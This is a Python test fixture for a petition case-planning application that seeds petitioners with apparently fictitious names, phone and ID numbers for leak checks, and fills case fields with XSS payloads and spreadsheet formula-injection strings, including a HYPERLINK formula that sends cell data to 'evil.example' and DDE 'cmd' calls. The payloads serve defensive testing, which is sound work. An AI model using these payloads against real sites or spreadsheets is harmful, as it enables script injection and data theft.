"""Seeded petitioners with recognisable identities and hostile text, for leak, XSS and backup tests."""

from __future__ import annotations

import datetime as dt

from sqlalchemy import MetaData, select
from sqlalchemy.orm import Session

from planner.domain import Petitioner
from planner.store.models import (
    AuditRow,
    CaseRow,
    ClarificationRow,
    PetitionerRow,
    PlanCase,
    PlanRow,
    SettingRow,
    TeamMemberRow,
    TeamRow,
)

#: Identities that must never appear in an output unless a permitted user unmasks them.
PETITIONERS: dict[str, Petitioner] = {
    "ZZ2026-0101": Petitioner("林秀英", "13859612345", "350628198001011234"),
    "ZZ2026-0102": Petitioner("陈阿水", "13905961122", "35062319750505231X"),
    "ZZ2026-0103": Petitioner("黄美玲", "18659687766", "350681199002028888"),
    "ZZ2026-0104": Petitioner("欧阳振华", "0596-2345678", "350602196512120016"),
}

#: Hostile text put into every user-controlled field that reaches an output.
XSS_PAYLOADS: tuple[str, ...] = (
    '<script>alert("xss")</script>',
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(2)</script>",
    '"><svg onload=alert(3)>',
    "javascript:alert(4)",
)
FORMULA_PAYLOADS: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
)


def identity_needles() -> list[str]:
    """Every string whose presence in an output is a leak: full names, phones (also digits only), ID numbers."""
    needles: list[str] = []
    for p in PETITIONERS.values():
        digits = "".join(ch for ch in p.phone if ch.isdigit())
        needles += [p.name, p.phone, digits, p.id_number, p.id_number[6:14]]
    return sorted(set(needles))


def find_leaks(text: str) -> list[str]:
    """The identity needles found in ``text``."""
    return [n for n in identity_needles() if n in text]


def seed(session: Session) -> dict[str, int]:
    """Insert four cases with petitioners, two teams, a plan assigning cases to them, and assorted rows.

    Case 0101 is planned for team T1, 0102 for T2, 0103 and 0104 are not planned.
    Returns ``case_no -> case id``.
    """
    ids: dict[str, int] = {}
    payload = " ".join(XSS_PAYLOADS + FORMULA_PAYLOADS)
    for i, (no, p) in enumerate(PETITIONERS.items()):
        row = CaseRow(
            case_no=no,
            received_date=dt.date(2026, 10, 20) + dt.timedelta(days=i),
            deadline=dt.date(2026, 12, 19) + dt.timedelta(days=i),
            category="三资管理",
            title=FORMULA_PAYLOADS[i % len(FORMULA_PAYLOADS)],
            content=f"反映村集体收取桉树砍伐保证金 {payload}",
            reported_persons=[XSS_PAYLOADS[i % len(XSS_PAYLOADS)]],
            address_text=f"平和县山格镇隆庆村{XSS_PAYLOADS[i % len(XSS_PAYLOADS)]}",
            county="平和县", county_code="350628", town="山格镇", village="隆庆村",
            lon=117.43 + i / 100, lat=24.37, precision="village",
            petitioner_key=p.key(),
        )  # fmt: skip
        row.petitioner = PetitionerRow(name=p.name, phone=p.phone, id_number=p.id_number)
        session.add(row)
        session.flush()
        ids[no] = row.id
    for tid in ("T1", "T2"):
        team = TeamRow(id=tid, name=f"第{tid[-1]}组", base_name="漳州市纪委监委", base_lon=117.65, base_lat=24.51)
        team.members = [TeamMemberRow(id=f"{tid}-m1", name="干部甲", former_postings=["350628"])]
        session.add(team)
    parent = PlanRow(
        name="初稿", start_date=dt.date(2026, 12, 7), days=5, problem={"x": [1, 2]}, result={"status": "ok"}
    )
    session.add(parent)
    session.flush()
    plan = PlanRow(name="第二稿", start_date=dt.date(2026, 12, 7), days=5, parent_id=parent.id, result={"routes": []})
    session.add(plan)
    session.flush()
    session.add_all(
        [
            PlanCase(plan_id=plan.id, case_id=ids[no], visit_id=vid, team_id=tid, visit_date=day)
            for no, vid, tid, day in (
                ("ZZ2026-0101", "V01", "T1", dt.date(2026, 12, 7)),
                ("ZZ2026-0102", "V02", "T2", dt.date(2026, 12, 8)),
            )
        ]
    )  # fmt: skip
    session.add(
        ClarificationRow(case_id=ids["ZZ2026-0103"], cadre="某村干部", issued_date=dt.date(2026, 11, 1),
                         document=b"%PDF-1.4\x00\xff binary", document_name="澄清.pdf")
    )  # fmt: skip
    session.add(SettingRow(key="travel", value={"circuity": 1.25, "中文": "值"}))
    session.add(AuditRow(username="system", action="seed", case_nos=["ZZ2026-0101"], detail={"n": 1}))
    session.flush()
    return ids


def dump(engine) -> dict[str, list[tuple]]:
    """Every row of every table (audit rows of backups and restores left out), in a backend-neutral form."""
    from planner.office.backup import _encode

    meta = MetaData()
    out = {}
    with engine.connect() as conn:
        meta.reflect(conn)
        for table in meta.sorted_tables:
            if table.name == "alembic_version":
                continue
            stmt = select(table).order_by(*(table.primary_key.columns or table.columns))
            rows = [tuple(_encode(v) for v in r) for r in conn.execute(stmt)]
            if table.name == "audit_log":
                rows = [r for r in rows if "restore" not in r and "backup" not in r]
            out[table.name] = rows
    return out
